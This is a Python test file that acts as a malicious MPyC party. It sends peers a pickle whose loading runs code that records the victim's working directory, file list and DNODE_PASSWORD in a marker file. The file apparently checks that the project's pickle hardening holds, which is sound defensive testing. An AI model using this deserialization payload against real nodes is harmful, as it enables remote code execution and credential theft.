"""A malicious MPyC party (test only): instead of its session fingerprint it sends every
peer a pickle whose loading runs code (it writes MARKER with what it could reach: the
victim's working directory, files there and its DNODE_PASSWORD).

Usage (through a wrapper given to SubprocessExecutor as its "python")::

    python tests/node/pickle_party.py MARKER -m node.mpc.party JOB.json
"""

from __future__ import annotations

import os
import pickle
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))

import dnode.node.mpc.party as party  # noqa: E402

MARKER = sys.argv[1]
JOB = sys.argv[-1]

try:
    import dnode.node.mpc.hardening as hardening

    hardening.harden = lambda *a, **k: None  # the attacker runs unpatched MPyC
    _decode = hardening.StrictCodec.loads
except ImportError:  # the old code: everyone speaks pickle
    _decode = pickle.loads

STEAL = (
    "import os, json; open({marker!r} + '-' + os.path.basename(os.getcwd()), 'w')"
    ".write(json.dumps({{"
    "'cwd': os.getcwd(), 'files': os.listdir('.'), "
    "'password': os.environ.get('DNODE_PASSWORD')}}))"
)


class _Payload:
    def __reduce__(self):  # type: ignore[override]
        return (exec, (STEAL.format(marker=MARKER),))


class EvilPickle:
    @staticmethod
    def dumps(obj: object) -> bytes:
        return pickle.dumps(_Payload())

    @staticmethod
    def loads(data: bytes) -> object:
        if data == pickle.dumps(_Payload()):
            return None  # its own message: the attacker does not attack itself
        try:
            return _decode(data)
        except Exception:  # noqa: BLE001
            return pickle.loads(data)


_session = party._session


async def evil_session(mpc, job, kernel):  # type: ignore[no-untyped-def]
    import mpyc.runtime

    mpyc.runtime.pickle = EvilPickle
    return await _session(mpc, job, kernel)


party._session = evil_session

if __name__ == "__main__":
    code = party.main([JOB])
    sys.stdout.flush()
    sys.stderr.flush()
    os._exit(code)
